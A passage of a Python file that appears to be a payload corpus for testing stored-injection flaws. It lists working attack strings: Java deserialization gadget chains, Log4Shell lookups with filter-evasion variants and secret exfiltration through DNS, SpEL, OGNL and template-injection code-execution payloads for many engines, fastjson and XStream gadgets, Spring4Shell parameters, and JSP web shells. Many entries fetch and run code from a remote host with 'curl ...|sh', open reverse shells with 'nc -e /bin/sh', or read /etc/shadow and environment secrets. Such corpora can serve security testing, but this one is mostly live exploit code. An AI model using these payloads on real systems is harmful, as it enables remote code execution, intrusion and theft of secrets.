    # Commons Collections 4 (CC2, CC4) and Commons BeanUtils through TemplatesImpl bytecode
    _b64(_chain("java.util.PriorityQueue", "org.apache.commons.collections4.comparators.TransformingComparator",
                "org.apache.commons.collections4.functors.InvokerTransformer",
                "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl")),
    _b64(_chain("java.util.PriorityQueue", "org.apache.commons.collections4.comparators.TransformingComparator",
                "org.apache.commons.collections4.functors.InstantiateTransformer",
                "com.sun.org.apache.xalan.internal.xsltc.trax.TrAXFilter")),
    _b64(_chain("java.util.PriorityQueue", "org.apache.commons.beanutils.BeanComparator",
                "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl")),
    # Spring (Spring1), Groovy (Groovy1), JDK 7u21
    _b64(_chain("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider",
                "org.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler",
                "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl")),
    _b64(_chain(CC1[0], "org.codehaus.groovy.runtime.ConvertedClosure",
                "org.codehaus.groovy.runtime.MethodClosure")),
    (_latin(_chain("java.util.LinkedHashSet", CC1[0], "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl")),
     *BIN),
    # C3P0, ROME, Hibernate
    _b64(_chain("com.mchange.v2.c3p0.PoolBackedDataSource",
                "com.mchange.v2.naming.ReferenceIndirector$ReferenceSerialized")),
    _chain("com.sun.syndication.feed.impl.ObjectBean", "com.sun.syndication.feed.impl.ToStringBean",
           "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl").hex(),
    _gz64(_chain("java.util.HashMap", "org.hibernate.engine.spi.TypedValue",
                 "org.hibernate.type.ComponentType", "org.hibernate.tuple.component.PojoComponentTuplizer",
                 "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl")),
    # BeanShell and JRMP client (the second stage fetched from the attacker's registry)
    _b64(_chain("java.util.PriorityQueue", "bsh.XThis$Handler", "bsh.NameSpace")),
    _b64(_chain("sun.rmi.server.UnicastRef", "sun.rmi.transport.LiveRef", "sun.rmi.transport.tcp.TCPEndpoint")),
    # the same chains in their text forms: Jackson default typing with C3P0's hex-serialized map and Spring JNDI
    ('["com.mchange.v2.c3p0.WrapperConnectionPoolDataSource",{"userOverridesAsString":"HexAsciiSerializedMap:'
     + _chain(*CC1).hex() + ';"}]', *JB),
    ('["org.springframework.beans.factory.config.PropertyPathFactoryBean",{"targetBeanName":'
     '"ldap://203.0.113.50:1389/a","propertyPath":"x","beanFactory":["org.springframework.jndi.support.'
     'SimpleJndiBeanFactory",{"shareableResources":["ldap://203.0.113.50:1389/a"]}]}]', *SB),
    ('["com.mchange.v2.c3p0.JndiRefForwardingDataSource",{"jndiName":"rmi://203.0.113.50:1099/Obj",'
     '"loginTimeout":0}]', *JB),
]

# log4shell: a value stored now and logged later by Log4j 2 < 2.15 (audit log of a profile change, the access log
# an admin views, a batch job that logs each imported row) (target: Log4j 2 JNDI lookup in the JVM)
LOG4SHELL: list[Entry] = [
    "${jndi:ldap://203.0.113.50:1389/Basic/Command/Base64/" + _b64("curl 203.0.113.50/l|sh") + "}",
    "${jndi:ldaps://203.0.113.50:636/o=reference}",
    "${jndi:rmi://203.0.113.50:1099/Exploit}",
    "${jndi:dns://" + CB + "/probe}",
    "${jndi:iiop://203.0.113.50:900/obj}",
    "${jndi:nis://203.0.113.50/x}",
    "${jndi:http://203.0.113.50/a}",
    # lookups nested to hide the keyword from a filter on the stored value
    "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:l}${lower:d}${lower:a}${lower:p}://203.0.113.50/a}",
    "${${upper:j}ndi:${upper:r}mi://203.0.113.50/b}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://203.0.113.50/c}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.50/d}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.50/e}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://203.0.113.50/f}",
    "${${lower:${lower:jndi}}:${lower:rmi}://203.0.113.50/g}",
    "${jn${lower:d}i:l${lower:d}ap://203.0.113.50/h}",
    # the lookup carries secrets out in the DNS name
    "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}." + CB + "/s}",
    "${jndi:dns://${sys:java.version}.${hostName}." + CB + "}",
    "${jndi:ldap://${env:DATABASE_URL:-none}." + CB + "/d}",
    # the 2.15 bypass (CVE-2021-45046) through a thread-context value, and the 2.16 recursion (CVE-2021-45105)
    "${jndi:ldap://127.0.0.1#" + CB + ":1389/a}",
    "${${::-${::-$${::-j}}}}",
    # percent-encoded or JSON-escaped so the form that is stored differs from the form that is logged
    "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.50%3A1389%2Fi%7D",
    ('{"displayName":"\\u0024\\u007bjndi:ldap://203.0.113.50:1389/j\\u007d","bio":"hi"}', *JB),
]

# java-expression-language: stored text that a Java back end evaluates as an expression later (target: Spring SpEL,
# Struts/Confluence OGNL, MVEL, JEXL, Jakarta EL / JSP EL)
JAVA_EL: list[Entry] = [
    # SpEL in a notification template the Spring service parses with a TemplateParserContext
    "#{T(java.lang.Runtime).getRuntime().exec('curl 203.0.113.50/s|sh')}",
    "#{new java.lang.ProcessBuilder({'sh','-c','id'}).start()}",
    "${T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id')"
    ".getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))}",
    "#{T(java.lang.System).getenv()}",
    "#{''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass()"
    ".forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}",
    # Spring Data Commons (CVE-2018-1273): a form field name bound as a property path
    ("username[#this.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")]=x", *KF),
    # Spring Cloud Function (CVE-2022-22963): the routing expression header
    ("T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/scf\")", "header:spring.cloud.function.routing-expression",
     "rs-header:spring.cloud.function.routing-expression"),
    # OGNL in a Struts 2 field that is re-evaluated on the error page (S2-053 style)
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='id').(#p=new java.lang."
    "ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#process=#p.start())}",
    "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"id\").getInputStream(),"
    "\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X-Cmd-Response\",#a))}",
    "${#context['xwork.MethodAccessor.denyMethodExecution']=false,@java.lang.Runtime@getRuntime().exec('id')}",
    # MVEL in a rule engine's saved rule
    "@{java.lang.Runtime.getRuntime().exec(\"id\")}",
    "new java.lang.ProcessBuilder(\"sh\", \"-c\", \"curl 203.0.113.50/mv|sh\").start();",
    # JEXL in a Nexus-style content selector saved by an admin
    "''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')",
    "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('touch /tmp/jexl')}",
    "new('java.lang.ProcessBuilder', ['sh', '-c', 'id']).start()",
    # Jakarta EL: a field whose validation message interpolates the stored value (Bean Validation)
    "${''.class.forName('java.lang.Runtime').getMethod('exec',''.class).invoke(''.class.forName("
    "'java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}",
    "${pageContext.request.getSession().getServletContext().getClassLoader()}",
    "${applicationScope}",
    "${pageContext.servletContext.getResource('/WEB-INF/web.xml')}",
]

# java-polymorphic-deserialization: typed JSON, YAML or XML stored as a blob and read back with a polymorphic
# mapper (target: XStream, java.beans.XMLDecoder, WebLogic, fastjson, Jackson default typing, SnakeYAML)
XSTREAM_PB = ("<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface>"
              "<handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command>"
              "<string>bash</string><string>-c</string><string>curl 203.0.113.50/x|sh</string></command></target>"
              "<action>start</action></handler></dynamic-proxy></sorted-set>")
XMLDECODER_PB = ("<java version=\"1.8.0\" class=\"java.beans.XMLDecoder\"><object class=\"java.lang.ProcessBuilder\">"
                 "<array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/sh</string></void>"
                 "<void index=\"1\"><string>-c</string></void><void index=\"2\"><string>id</string></void></array>"
                 "<void method=\"start\"/></object></java>")
JAVA_POLY: list[Entry] = [
    # XStream: an import file of saved objects
    (XSTREAM_PB, *XB),
    ("<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal."
     "bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws."
     "encoding.xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"/></dataSource>"
     "</dataHandler></value></jdk.nashorn.internal.objects.NativeString><string>x</string></entry></map>", *XB),
    ("<java.util.PriorityQueue serialization=\"custom\"><unserializable-parents/><java.util.PriorityQueue>"
     "<default><size>2</size><comparator class=\"javafx.collections.ObservableList$1\"/></default><int>3</int>"
     "<com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data/></java.util.PriorityQueue>"
     "</java.util.PriorityQueue>", *XB),
    # java.beans.XMLDecoder: a saved layout file, and WebLogic's WorkContext SOAP header (CVE-2017-10271)
    ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>" + XMLDECODER_PB, *XB),
    ("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header>"
     "<work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\">" + XMLDECODER_PB
     + "</work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>", *XB),
    # fastjson autoType in a stored JSON profile
    ('{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://203.0.113.50:1099/Exploit",'
     '"autoCommit":true}', *JB),
    ('{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":'
     '"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.50:1389/Exploit","autoCommit":true}}', *SB),
    ('{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://203.0.113.50:1389/a",'
     '"autoCommit":true}', *JB),
    ('{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["yv66vgAAADQAJgoAAwAP'
     'BwARBwASAQAGPGluaXQ+"],"_name":"a","_tfactory":{},"_outputProperties":{}}', *SB),
    ('{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":{"data_source":'
     '"ldap://203.0.113.50:1389/ibatis"}}', *JB),
    ('{"\\u0040\\u0074\\u0079\\u0070\\u0065":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":'
     '"ldap://203.0.113.50:1389/u","autoCommit":true}', *SB),
    ('{"@type":"java.lang.AutoCloseable","@type":"org.apache.commons.io.input.BOMInputStream",'
     '"delegate":{"@type":"org.apache.commons.io.input.ReaderInputStream"}}', *JB),
    # Jackson default typing in a saved settings blob
    ('["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://203.0.113.50:1389/lb"}]', *SB),
    ('["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://203.0.113.50:1389/xb"}]', *JB),
    ('["com.zaxxer.hikari.HikariConfig",{"metricRegistry":"ldap://203.0.113.50:1389/hk"}]', *SB),
    ('["org.springframework.context.support.ClassPathXmlApplicationContext","http://203.0.113.50/spel.xml"]', *JB),
    ('{"@class":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.50:1389/jk",'
     '"autoCommit":true}', *SB),
    # SnakeYAML: settings exported and re-imported as YAML
    ("!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: \"ldap://203.0.113.50:1389/y\", autoCommit: true}",
     "yaml-body", "rs-yaml-body"),
    ("!!org.springframework.context.support.FileSystemXmlApplicationContext [\"http://203.0.113.50/b.xml\"]",
     "yaml-body", "rs-yaml-body"),
]

# java-class-loading: stored text that makes a Java back end load attacker code later (target: the JVM's class
# loaders, Spring, Tomcat, Struts, Groovy, SnakeYAML, fastjson/BCEL)
JAVA_LOADING: list[Entry] = [
    # a plugin URL saved in settings and loaded by the scripting hook
    "new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://203.0.113.50/x.jar\")})"
    ".loadClass(\"Exploit\").newInstance()",
    "#{new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL('http://203.0.113.50/e.jar')})"
    ".loadClass('Evil').getConstructor().newInstance()}",
    "#{T(org.springframework.cglib.core.ReflectUtils).defineClass('Evil',T(org.springframework.util.Base64Utils)"
    ".decodeFromString('yv66vgAAADQAJgoAAwAPBwARBwASAQAGPGluaXQ+'),T(java.lang.Thread).currentThread()"
    ".getContextClassLoader()).newInstance()}",
    "java.lang.reflect.Method d = ClassLoader.class.getDeclaredMethod(\"defineClass\", byte[].class, int.class, "
    "int.class); d.setAccessible(true);",
    "java.lang.invoke.MethodHandles.lookup().defineClass(java.util.Base64.getDecoder().decode("
    "\"yv66vgAAADQAJgoAAwAPBwARBwASAQAGPGluaXQ+\"))",
    "new javax.management.loading.MLet(new java.net.URL[]{new java.net.URL(\"http://203.0.113.50/m.jar\")}, "
    "ClassLoader.getSystemClassLoader()).loadClass(\"Payload\").newInstance()",
    "this.class.classLoader.parseClass('class X{static{\"curl 203.0.113.50/gc|sh\".execute()}}').newInstance()",
    "new groovy.lang.GroovyClassLoader().parseClass(new URL('http://203.0.113.50/E.groovy').text).newInstance()",
    "new javax.naming.Reference(\"Exploit\", \"Exploit\", \"http://203.0.113.50/\")",
    # SnakeYAML settings import: ScriptEngineManager loads the attacker's service provider from a jar
    ("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
     "[\"http://203.0.113.50/yaml-payload.jar\"]]]]", "yaml-body", "rs-yaml-body"),
    # fastjson + Tomcat DBCP: BCEL class loader with the class inside the driver name
    ('{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":'
     '"com.sun.org.apache.bcel.internal.util.ClassLoader"},"driverClassName":"$$BCEL$$$l$8b$I$A$A$A$A$A$A$A'
     '$8dV$5bW$TW$U$fe$86$84$ML$Q$Q$d0$a0$b4"}', *JB),
    # Spring4Shell (CVE-2022-22965): binding the class loader's Tomcat access-log valve to write a JSP
    ("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22.equals("
     "request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRuntime().exec("
     "request.getParameter(%22cmd%22)).getInputStream()%3B%20%7D%20%25%7Bsuffix%7Di", *KF),
    ("class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp", *KV),
    ("class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT", *KF),
    ("class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar", *KV),
    # Struts 1 / 2 class loader manipulation (S2-020 family)
    ("class.classLoader.resources.dirContext.docBase=/", *KF),
    ("class['classLoader']['jarPath']=http://203.0.113.50/x.jar", *KV),
]

# jsp-upload: a document uploaded now and served later from a directory the servlet container executes (target:
# Tomcat / Jetty / WebLogic JSP compiler); the file name and the file content
JSP_SHELL = ("<%@ page import=\"java.io.*\" %><% Process p = Runtime.getRuntime().exec(request.getParameter(\"cmd\"));"
             " BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); String l; "
             "while ((l = r.readLine()) != null) { out.println(l); } %>")
JSP_UPLOAD: list[Entry] = [
    # the file name (the upload carries a JSP shell)
    ("cmd.jsp", *FN),
    ("invoice-2024.jspx", *FN),
    ("avatar.jsp;.png", *FN),
    ("photo.JSP", *FN),
    ("report.jsp%00.pdf", *FN),
    ("../../webapps/ROOT/status.jsp", *FN),
    ("..\\..\\webapps\\ROOT\\s.jsp", *FN),
    ("shell.jsp.", *FN),
    # the content, stored as a "document" attachment or template field
    (JSP_SHELL, "multipart-field", "rs-form"),
    ("<% out.println(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter(\"c\")).getInputStream())"
     ".useDelimiter(\"\\\\A\").next()); %>", "multipart-field", "rs-raw-body"),
    ("<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"1.2\"><jsp:scriptlet>Runtime.getRuntime()"
     ".exec(request.getParameter(\"c\"));</jsp:scriptlet></jsp:root>", *XB),
    ("<%! public void x(String c) throws Exception { Runtime.getRuntime().exec(c); } %><% x(request.getParameter("
     "\"c\")); %>", "multipart-field", "rs-form"),
    ("<%= new String(java.nio.file.Files.readAllBytes(java.nio.file.Paths.get(\"/etc/passwd\"))) %>",
     "multipart-field", "rs-raw-body"),
    ("<% \\u0052untime.getRuntime().exec(request.getParameter(\"c\")); %>", "multipart-field", "rs-form"),
    ("<jsp:scriptlet>new java.lang.ProcessBuilder(request.getParameter(\"c\").split(\" \")).start();"
     "</jsp:scriptlet>", "multipart-field", "rs-raw-body"),
    ("<%@ page import=\"java.util.*,java.io.*\"%><% if (request.getParameter(\"pwd\").equals(\"j\")) { "
     "Runtime.getRuntime().exec(request.getParameter(\"cmd\")); } %>", "multipart-field", "rs-form"),
]

# ================================================================================================================
# SSTI: one sub-family per engine. The payloads are saved in a field the product later renders as a template (an
# e-mail or notification template, a display name or signature concatenated into one, a page footer, a PDF
# header); the comment names the engine and its stack.
# ----------------------------------------------------------------------------------------------------------------
# Jinja2 (Python / Flask): a notification template saved in the settings and rendered by the mailer
JINJA2: list[Entry] = [
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
    "{{ lipsum.__globals__['os'].popen('curl 203.0.113.50/j2|sh').read() }}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
    r"{{ request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')"
    r"('\x5f\x5fbuiltins\x5f\x5f')|attr('\x5f\x5fgetitem\x5f\x5f')('\x5f\x5fimport\x5f\x5f')('os')"
    r"|attr('popen')('id')|attr('read')() }}",
    "{{ namespace.__init__.__globals__.os.popen('nc 203.0.113.50 4444 -e /bin/sh').read() }}",
    "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{{ config.__class__.__init__.__globals__['os'].environ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}",
]

# Twig (PHP / Symfony, Craft CMS): an e-mail footer stored in the site settings
TWIG: list[Entry] = [
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['id']|filter('system')}}",
    "{{['cat /etc/passwd']|map('passthru')|join}}",
    "{{[0]|reduce('system','curl 203.0.113.50/tw|sh')}}",
    "{{['id','']|sort('system')}}",
    "{% set cmd = 'id' %}{{ [cmd]|map('shell_exec')|join }}",
    "{{app.request.server.all|join(',')}}",
    "{{'/etc/passwd'|file_excerpt(1,30)}}",
    "{{_self.env.setCache(\"ftp://203.0.113.50:2121\")}}{{_self.env.loadTemplate(\"backdoor\")}}",
    "{{ craft.app.config.general.securityKey }}",
]

# FreeMarker (Java: Apache OFBiz, Liferay, Alfresco, Spring mail templates): a page or e-mail template
FREEMARKER: list[Entry] = [
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "${\"freemarker.template.utility.Execute\"?new()(\"cat /etc/passwd\")}",
    "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>${ob(\"java.lang.ProcessBuilder\","
    "\"id\").start()}",
    "<#assign jt=\"freemarker.template.utility.JythonRuntime\"?new()><@jt>import os;os.system(\"id\")</@jt>",
    "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('curl 203.0.113.50/fm|sh')}",
    "<#assign classloader=article.class.protectionDomain.classLoader><#assign owc=classloader.loadClass("
    "\"freemarker.template.ObjectWrapper\")><#assign dwf=owc.getField(\"DEFAULT_WRAPPER\").get(null)>"
    "<#assign ec=classloader.loadClass(\"freemarker.template.utility.Execute\")>${dwf.newInstance(ec,null)(\"id\")}",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
    ".toURL().openStream().readAllBytes()?join(\" \")}",
    "<#list .data_model?keys as k>${k}=${.data_model[k]!}</#list>",
    "${user?api.class.getResource(\"/\").getPath()}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"nc 203.0.113.50 4444 -e /bin/sh\")}",
]

# Velocity (Java: Confluence, Solr, Jira mail templates): a page template or a stored macro parameter
VELOCITY: list[Entry] = [
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))$ex.waitFor()",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
    ".exec(\"curl 203.0.113.50/vm|sh\")",
    "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")",
    "#set($s=\"\")#set($p=$s.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"cat /etc/passwd\"))"
    "#set($in=$p.getInputStream())#foreach($i in [1..$in.available()])$s.valueOf($s.class.forName("
    "\"java.lang.Character\").toChars($in.read()))#end",
    "#set($engine=$x.class.forName(\"javax.script.ScriptEngineManager\").newInstance().getEngineByName(\"js\"))"
    "$engine.eval(\"java.lang.Runtime.getRuntime().exec('id')\")",
    # Confluence Widget Connector (CVE-2019-3396): the stored macro's _template points at a file
    ('{"contentId":"786457","macro":{"name":"widget","body":"","params":{"url":"https://www.viddler.com/v/23464dc5",'
     '"width":"1000","height":"1000","_template":"file:///etc/passwd"}}}', *JB),
    # Solr VelocityResponseWriter (CVE-2019-17558) once params.resource.loader is enabled in the stored config
    ("v.template=custom&v.template.custom=%23set($x=%27%27)+%23set($rt=$x.class.forName(%27java.lang.Runtime%27))"
     "+%23set($ex=$rt.getRuntime().exec(%27id%27))+$ex.waitFor()", *KV),
    ('{"update-queryresponsewriter":{"startup":"lazy","name":"velocity","class":"solr.VelocityResponseWriter",'
     '"template.base.dir":"","solr.resource.loader.enabled":"true","params.resource.loader.enabled":"true"}}', *SB),
    "$request.getClass().getClassLoader().loadClass(\"java.lang.Runtime\").getRuntime().exec(\"id\")",
]

# Thymeleaf (Java / Spring MVC): a stored layout name or fragment used as a view name, or inlined text
THYMELEAF: list[Entry] = [
    "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
    "__${T (java.lang.Runtime).getRuntime().exec(\"curl 203.0.113.50/th|sh\")}__::main",
    "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]",
    "[(${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')})]",
    "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
    "<a th:href=\"@{__${T(java.lang.System).getenv()}__}\">x</a>",
    "~{::__${#response.addHeader('X-Env',T(java.lang.System).getenv('DB_PASSWORD'))}__}",
]

# ERB (Ruby on Rails): a stored message template that a mailer renders with ERB.new(...).result
ERB: list[Entry] = [
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "<%= IO.popen('id').readlines() %>",
    "<%= File.open('/etc/passwd').read %>",
    "<%= Dir.entries('/') %>",
    "<%= require 'open3'; Open3.capture2('id')[0] %>",
    "<%= ENV.to_h %>",
    "<%= Rails.application.secret_key_base %>",
    "<%- %x(curl -s 203.0.113.50/erb | sh) -%>",
    "<%= eval('`whoami`') %>",
]

# Smarty (PHP: CMS Made Simple, PrestaShop, Tiki): a page or e-mail template saved by an editor
SMARTY: list[Entry] = [
    "{system('id')}",
    "{php}echo `id`;{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
    "{if system('cat /etc/passwd')}{/if}",
    "{self::getStreamVariable(\"file:///etc/passwd\")}",
    "{fetch file='file:///etc/passwd'}",
    "{math equation=\"(\\\"\\163\\171\\163\\164\\145\\155\\\")(\\\"id\\\")\"}",
    "{function name='x(){};system(\"id\");function '}{/function}",
    "{$smarty.template_object->smarty->disableSecurity()->display('string:{system(\\'id\\')}')}",
    "{passthru('curl 203.0.113.50/sm|sh')}",
]

# Handlebars (Node.js): a notification template stored per team and compiled with Handlebars.compile
HBS_RCE = ("{{#with \"s\" as |string|}}\n  {{#with \"e\"}}\n    {{#with split as |conslist|}}\n"
           "      {{this.pop}}\n      {{this.push (lookup string.sub \"constructor\")}}\n      {{this.pop}}\n"
           "      {{#with string.split as |codelist|}}\n        {{this.pop}}\n"
           "        {{this.push \"return require('child_process').execSync('CMD');\"}}\n        {{this.pop}}\n"
           "        {{#each conslist}}\n          {{#with (string.sub.apply 0 codelist)}}\n            {{this}}\n"
           "          {{/with}}\n        {{/each}}\n      {{/with}}\n    {{/with}}\n  {{/with}}\n{{/with}}")
HANDLEBARS: list[Entry] = [
    HBS_RCE.replace("CMD", "id"),
    HBS_RCE.replace("CMD", "curl 203.0.113.50/hb|sh").replace("\n", "").replace("  ", ""),
    HBS_RCE.replace("require(", "process.mainModule.require(").replace("CMD", "cat /etc/passwd"),
    "{{#with (lookup this \"constructor\")}}{{#with (lookup this \"constructor\")}}"
    "{{this \"return process.env\"}}{{/with}}{{/with}}",
    "{{lookup (lookup this \"constructor\") \"constructor\"}}",
    "{{#with this as |o|}}{{#with (o.constructor.constructor \"return process.mainModule.require("
    "'child_process').execSync('id')\") as |f|}}{{f}}{{/with}}{{/with}}",
    "{{#each (lookup this \"__proto__\")}}{{@key}}={{this}} {{/each}}",
    "{{#with \"constructor\" as |c|}}{{#with (lookup (lookup this c) c)}}{{this \"return global.process"
    ".mainModule.constructor._load('child_process').execSync('whoami')\"}}{{/with}}{{/with}}",
    "{{{this.__lookupGetter__ \"__proto__\"}}}",
]

# Pug (Node.js / Express): a page template stored for a team's landing page
PUG: list[Entry] = [
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process')"
    ".exec('curl 203.0.113.50/pug|sh')}()}",
    "- var x = global.process.mainModule.require('child_process').execSync('id').toString()\n= x",
    "= process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
    "p= global.process.env",
    "!{root.process.mainModule.require('child_process').spawnSync('cat',['/etc/passwd']).stdout}",
    "- global.process.mainModule.require('child_process').exec('nc 203.0.113.50 4444 -e /bin/sh')",
    "a(href=process.mainModule.require('child_process').execSync('id'))",
    "each v, k in global.process.env\n  li #{k}=#{v}",
    "#{global.process.mainModule.require('child_process').execSync('whoami')}",
]

# Mako (Python: Pyramid, Pylons apps): a report header template stored by an admin
MAKO: list[Entry] = [
    "${self.module.cache.util.os.system(\"id\")}",
    "<% import os; x=os.popen('id').read() %>${x}",
    "${__import__('os').popen('cat /etc/passwd').read()}",
    "<%! import subprocess %>${subprocess.check_output(['id'])}",
    "${self.module.runtime.util.os.popen('curl 203.0.113.50/mk|sh').read()}",
    "% for f in __import__('os').listdir('/'):\n${f}\n% endfor",
    "<%include file=\"/etc/passwd\"/>",
    "${open('/etc/shadow').read()}",
    "${__import__('subprocess').getoutput('nc 203.0.113.50 4444 -e /bin/sh')}",
]

# Tornado (Python): a stored snippet rendered with tornado.template.Template
TORNADO: list[Entry] = [
    "{% import os %}{{ os.popen('id').read() }}",
    "{% import subprocess %}{{ subprocess.check_output('cat /etc/passwd', shell=True) }}",
    "{{ __import__('os').system('curl 203.0.113.50/tn|sh') }}",
    "{% raw __import__('os').popen('id').read() %}",
    "{{ handler.settings }}",
    "{{ handler.application.settings['cookie_secret'] }}",
    "{% apply __import__('os').system %}id{% end %}",
    "{% set x = __import__('os').popen('whoami').read() %}{{ x }}",
    "{% include '/etc/passwd' %}",
]

# Nunjucks (Node.js: Eleventy, Express): a notification template saved per project
NUNJUCKS: list[Entry] = [
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "{{ cycler.constructor(\"return process.env\")() }}",
    "{{ joiner.constructor(\"return process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')\")() }}",
    "{{ range.constructor(\"return this.process.mainModule.require('child_process')"
    ".exec('curl 203.0.113.50/nj|sh')\")() }}",
    "{% set p = range.constructor(\"return process\")() %}"
    "{{ p.mainModule.require('child_process').execSync('whoami') }}",
    "{{ ''.constructor.constructor('return process.env.DATABASE_URL')() }}",
    "{{ [].constructor.constructor(\"return global.process.mainModule.require('child_process')"
    ".execSync('cat /etc/shadow')\")() }}",
    "{{ ''.toString.constructor.call({},\"return global.process.mainModule.constructor._load('child_process')"
    ".execSync('id').toString()\")() }}",
